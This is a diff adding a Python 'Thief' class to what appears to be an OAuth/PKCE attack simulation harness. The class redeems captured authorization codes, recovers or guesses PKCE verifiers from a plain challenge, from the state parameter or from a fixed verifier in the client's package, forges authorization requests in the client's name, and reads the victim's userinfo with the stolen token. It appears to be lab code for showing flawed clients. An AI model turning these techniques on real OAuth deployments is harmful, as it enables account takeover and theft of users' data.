@@ -1,0 +1,194 @@
+"""The thief: redeems what it captured, and reads the victim's data with the token.
+
+It works from loot alone. The client's identifier, redirect URI and scopes it learns as everybody
+can: by starting a login of its own and reading where the client sends it.
+"""
+
+import asyncio
+import io
+import zipfile
+from urllib.parse import urlencode
+
+import httpx
+
+from attacker.hunt import Finding, hunt
+from attacker.loot import LootBag, LootItem, NothingCapturedError, Sighting
+from attacker.pkce import Pair, new_pair
+from attacker.vantage import Leg, Vantage
+from attacker.wiretap import arguments_of, overhears, sightings
+from reports.records import Exchange, Handover
+
+VICTIMS_LEGS = (Leg.AUTHORIZATION_RESPONSE, Leg.AUTHORIZATION_REQUEST)
+
+
+class Thief:
+    """One attacker in one play. ``client`` is the public address of the honest client."""
+
+    def __init__(self, http: httpx.AsyncClient, loot: LootBag, client: str) -> None:
+        self.loot = loot
+        self._http = http
+        self._client = client
+        self._metadata: dict[str, str] = {}
+        self._own_exchange = ""
+        self._pair: Pair | None = None
+
+    @property
+    def vantage(self) -> Vantage:
+        """What this thief can see."""
+        return self.loot.vantage
+
+    def witness(self, exchange: Exchange) -> None:
+        """Take in an exchange, as far as it was audible and the vantage reaches."""
+        if not overhears(exchange):
+            return
+        if exchange.source == "thief":
+            self._own_exchange = exchange.id
+        for sighting in sightings(exchange):
+            self.loot.show(sighting)
+
+    def read_arguments(self, handover: Handover) -> None:
+        """Take in the arguments of a process on the victim's machine."""
+        for sighting in arguments_of(handover):
+            self.loot.show(sighting)
+
+    async def receive_code(self) -> LootItem:
+        """The authorization code, once the channel has delivered it.
+
+        Raises :class:`NothingCapturedError` when it does not.
+        """
+        return await self.loot.wait_for("code", Leg.AUTHORIZATION_RESPONSE)
+
+    async def study_client(self) -> None:
+        """Start a login of its own, and see how the client asks for a code.
+
+        Also reads the provider's discovery document (RFC 8414), which is public.
+        """
+        if self._metadata:
+            return
+        await self._start_own_login()
+        endpoint = self._own_request().text.partition("?")[0]
+        issuer = endpoint.rpartition("/")[0]
+        answer = await self._http.get(f"{issuer}/.well-known/openid-configuration")
+        self._metadata = answer.raise_for_status().json()
+
+    async def redeem(self, code: LootItem, verifier: LootItem | None = None) -> LootItem | None:
+        """Redeem a code (RFC 6749 section 4.1.3); the token, or ``None`` when it was refused."""
+        await self.study_client()
+        form = {
+            "grant_type": "authorization_code",
+            "code": code.value,
+            "client_id": self.loot.need("client_id").value,
+            "redirect_uri": self.loot.need("redirect_uri").value,
+        }
+        if verifier is not None:
+            form["code_verifier"] = verifier.value
+        answer = await self._http.post(self._metadata["token_endpoint"], data=form)
+        token = _member(answer, "access_token")
+        if token is None:
+            return None
+        where = "the answer of the token endpoint"
+        return self.loot.add(LootItem("access_token", token, Leg.OWN, self._own_exchange, where))
+
+    async def use(self, token: LootItem | None) -> None:
+        """Read the victim's data at userinfo (OpenID Connect Core section 5.3), given a token."""
+        if token is not None:
+            bearer = {"Authorization": f"Bearer {token.value}"}
+            await self._http.get(self._metadata["userinfo_endpoint"], headers=bearer)
+
+    def best_guess_at_verifier(self) -> LootItem | None:
+        """The victim's challenge, if it was seen: for ``plain`` it is the verifier itself."""
+        challenge = self.loot.find("code_challenge", Leg.AUTHORIZATION_REQUEST)
+        if challenge is None:
+            return None
+        where = f"guessed: the challenge, read in {challenge.where}"
+        return self._verifier(challenge.value, challenge.leg, challenge.seen_in, where)
+
+    async def verifier_from_state(self) -> LootItem:
+        """The verifier that the victim's redirect carries in ``state``.
+
+        The thief proves on a login of its own where the verifier sits, then reads the same place
+        in the victim's ``state``. Raises :class:`NothingCapturedError`.
+        """
+        await self.study_client()
+        own = self.loot.need("state", Leg.OWN)
+        finding = await self._prove({own.where: own.value})
+        theirs = self.loot.need("state", *VICTIMS_LEGS)
+        verifier = finding.recipe.apply(theirs.value)
+        if verifier is None:
+            raise NothingCapturedError("the victim's state has no verifier where the thief's has")
+        where = f"state of the victim's redirect > {finding.recipe}"
+        return self._verifier(verifier, theirs.leg, theirs.seen_in, where)
+
+    async def fixed_verifier(self) -> LootItem:
+        """The one verifier that every copy of the client uses.
+
+        It shows itself on an own login with ``plain``; with ``S256`` in the code of the client.
+        Either way two logins of the thief's own prove it: the challenge does not change.
+        Raises :class:`NothingCapturedError`.
+        """
+        await self.study_client()
+        await self._start_own_login()
+        own = [s for s in self.loot.sightings if s.leg is Leg.OWN and "response_type=" in s.text]
+        if len({sighting.parameters.get("code_challenge") for sighting in own}) != 1:
+            raise NothingCapturedError("the challenge changes from login to login: nothing fixed")
+        texts = {sighting.where: sighting.text for sighting in own}
+        seen_in = own[-1].seen_in
+        if self.loot.need("code_challenge_method", Leg.OWN).value != "plain":
+            texts = await self._unpack_client()
+            seen_in = self._own_exchange
+        finding = await self._prove(texts)
+        where = f"{finding.source} > {finding.recipe}"
+        return self._verifier(finding.verifier, Leg.OWN, seen_in, where)
+
+    def build_authorization_request(self) -> str:
+        """An authorization request in the client's name with a challenge of the thief's own.
+
+        RFC 8252 section 8.6. Needs :meth:`study_client`.
+        """
+        template = self._own_request()
+        request = dict(template.parameters)
+        if "code_challenge" in request:
+            method = request.get("code_challenge_method", "plain")
+            self._pair = new_pair(method)
+            request["code_challenge"] = self._pair.challenge
+        endpoint = template.text.partition("?")[0]
+        return f"{endpoint}?{urlencode(request)}"
+
+    def own_verifier(self) -> LootItem | None:
+        """The verifier behind the challenge that the thief chose itself, if it chose one."""
+        if self._pair is None:
+            return None
+        return self._verifier(self._pair.verifier, Leg.OWN, self._own_exchange, "chosen by itself")
+
+    async def _start_own_login(self) -> None:
+        answer = await self._http.get(self._client)
+        if not answer.is_redirect:
+            raise NothingCapturedError(f"the client answered {answer.status_code} to a login")
+
+    def _own_request(self) -> Sighting:
+        return next(sighting for sighting in self.loot.sightings if sighting.leg is Leg.OWN)
+
+    async def _unpack_client(self) -> dict[str, str]:
+        answer = await self._http.get(f"{self._client}/package.zip")
+        with zipfile.ZipFile(io.BytesIO(answer.raise_for_status().content)) as package:
+            return {name: package.read(name).decode("latin-1") for name in package.namelist()}
+
+    async def _prove(self, texts: dict[str, str]) -> Finding:
+        challenge = self.loot.need("code_challenge", Leg.OWN).value
+        method = self.loot.need("code_challenge_method", Leg.OWN).value
+        # The search hashes a lot; the proxy and the browsers share this event loop.
+        finding = await asyncio.to_thread(hunt, texts, challenge, method)
+        if finding is None:
+            raise NothingCapturedError("nothing the thief has seen hashes to the challenge")
+        return finding
+
+    def _verifier(self, value: str, leg: Leg, seen_in: str, where: str) -> LootItem:
+        return self.loot.add(LootItem("code_verifier", value, leg, seen_in, where))
+
+
+def _member(answer: httpx.Response, name: str) -> str | None:
+    try:
+        body = answer.json()
+    except ValueError:
+        return None
+    return body.get(name) if isinstance(body, dict) else None
